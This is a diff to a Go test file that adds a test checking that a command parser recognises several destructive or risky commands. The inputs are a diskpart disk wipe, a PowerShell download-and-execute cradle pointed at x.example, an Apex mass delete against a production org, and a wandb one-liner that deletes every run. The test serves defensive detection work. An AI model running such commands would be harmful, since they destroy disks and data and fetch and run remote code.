@@ -231,3 +231,34 @@ func TestScriptSeesCommandEnv(t *testing.T) {
 		t.Fatalf("$APPDATA: %v", cmds)
 	}
 }
+
+// TestSessionAwareRunners: text piped into diskpart is its script, a
+// script block made from a downloaded string runs it, an Apex file run
+// against an org is read for bulk deletes, and a list comprehension
+// deleting everything an API client lists is an SDK mass delete.
+func TestSessionAwareRunners(t *testing.T) {
+	st := NewState()
+	st.Files["purge.apex"] = &File{Content: "List<Account> a = [SELECT Id FROM Account];\ndelete a;\n"}
+	cases := []struct {
+		src  string
+		want string // a prefix of some normalised command
+	}{
+		{"\"select disk 0`nclean\" | diskpart", "wipefs -a /dev/windows-volume"},
+		{`$s=(New-Object System.Net.WebClient).DownloadString('https://x.example/a.ps1'); & ([scriptblock]::Create($s))`, "curl -s https://x.example/a.ps1"},
+		{"sf apex run --file purge.apex --target-org acme-prod", "sdk-destroy apex 'acme-prod"},
+		{`python3 -c "import wandb; [r.delete() for r in wandb.Api().runs('team/proj')]"`, "sdk-destroy every"},
+	}
+	for _, c := range cases {
+		cmds, _ := Parse(c.src, st)
+		found := false
+		var got []string
+		for _, cmd := range cmds {
+			s := cmd.String()
+			got = append(got, s)
+			found = found || strings.HasPrefix(s, c.want)
+		}
+		if !found {
+			t.Errorf("%s: want %q among %q", c.src, c.want, got)
+		}
+	}
+}
